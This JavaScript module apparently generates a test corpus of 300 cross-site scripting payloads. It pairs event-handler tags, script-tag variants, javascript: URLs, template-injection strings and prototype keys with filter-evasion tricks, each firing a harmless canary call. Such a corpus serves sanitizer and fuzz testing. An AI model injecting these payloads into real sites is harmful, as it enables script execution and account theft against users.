/**
 * Three hundred texts that want to be more than text: markup with handlers, addresses that run, templates, half-open quotes. Each
 * calls `taken(n)` where a page believes it.
 */

const HANDLERS = [
  ["img src=x", "onerror"], ["img src=x", "onload"], ["svg", "onload"], ["svg><g", "onload"], ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["body", "onload"], ["body", "onpageshow"], ["video src=x", "onerror"], ["audio src=x", "onerror"], ["video><source", "onerror"],
  ["input autofocus", "onfocus"], ["select autofocus", "onfocus"], ["button autofocus", "onfocus"], ["details open", "ontoggle"],
  ["marquee", "onstart"], ["iframe src=about:blank", "onload"], ["object data=x", "onerror"], ["embed src=x", "onerror"],
  ["a href=# tabindex=0 autofocus", "onfocus"], ["div contenteditable autofocus", "onfocus"], ["style", "onload"], ["link rel=stylesheet href=x", "onerror"],
  ["track src=x", "onerror"], ["form", "onsubmit"], ["math><mtext", "onmouseover"], ["p style=animation-name:x", "onanimationstart"],
];
/** How a filter is got round: case, slashes instead of spaces, entities, line breaks, nothing after the tag. */
const DISGUISES = [
  (tag, on, call) => `<${tag} ${on}=${call}>`,
  (tag, on, call) => `<${tag.replace(" ", "/")}/${on.toUpperCase()}="${call}">`,
  (tag, on, call) => `"><${tag}\n${on}='${call}'//`,
  (tag, on, call) => `'><${tag.toUpperCase()} ${on}=${call.replace("(", "&#40;").replace(")", "&#41;")}>`,
  (tag, on, call) => `</p></div><${tag}\t${on}\t=\t"${call}"`,
  (tag, on, call) => `\u202e<${tag} x=\`y\` ${on}=${call}>\u0000`,
];
const SCRIPTS = [
  (call) => `<script>${call}</script>`, (call) => `<ScRiPt>${call}</sCrIpT>`, (call) => `</script><script>${call}//`,
  (call) => `<script src="data:text/javascript,${call}"></script>`, (call) => `<scr<script>ipt>${call}</script>`,
  (call) => `<svg><script>${call}</script></svg>`, (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`, (call) => `<math><style><img src=x onerror=${call}></style></math>`,
];
const ADDRESSES = [
  (call) => `<a href="javascript:${call}">看</a>`, (call) => `<a href="JaVa&#115;cript:${call}">看</a>`, (call) => `<a href=" java\tscript:${call}">看</a>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`, (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`, (call) => `<embed src="data:text/html,<script>top.${call}</script>">`,
  (call) => `<form action="javascript:${call}"><button>去</button></form>`, (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`, (call) => `[看](javascript:${call})`, (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
];
const TEMPLATES = [
  (call) => `{{ ${call} }}`, (call) => `{{constructor.constructor('${call}')()}}`, (call) => `\${${call}}`, (call) => `#{${call}}`, (call) => `<%= ${call} %>`,
  () => `@:x`, (call) => `{'${call}'}`, (call) => `@.lower:{'${call}'}`, (call) => `%s %d {0} {n} ${call}`, (call) => `v-html="${call}" :onclick="${call}"`,
  () => `__proto__`, () => `constructor`, () => `toString`,
];
/** These swallow what comes after them, so they come last wherever several stand together. */
const SWALLOWERS = [
  (call) => `<textarea><img src=x onerror=${call}>`, (call) => `<!--<img src=x onerror=${call}>`, (call) => `<title><img src=x onerror=${call}>`,
  (call) => `<xmp><img src=x onerror=${call}>`, (call) => `<plaintext><img src=x onerror=${call}>`, (call) => `<select><img src=x onerror=${call}>`,
];
const OFTEN = 300;

function made() {
  const makers = [];
  for (const disguise of DISGUISES) for (const [tag, on] of HANDLERS) makers.push((call) => disguise(tag, on, call));
  for (const quote of ["", "\"", "'", "`\">"]) for (const make of [...SCRIPTS, ...ADDRESSES, ...TEMPLATES]) makers.push((call) => quote + make(call));
  const room = OFTEN - SWALLOWERS.length;
  return [...makers.slice(0, room), ...SWALLOWERS].map((make, n) => make(`taken(${n})`));
}

/** All of them, each once. */
export const PAYLOADS = made();
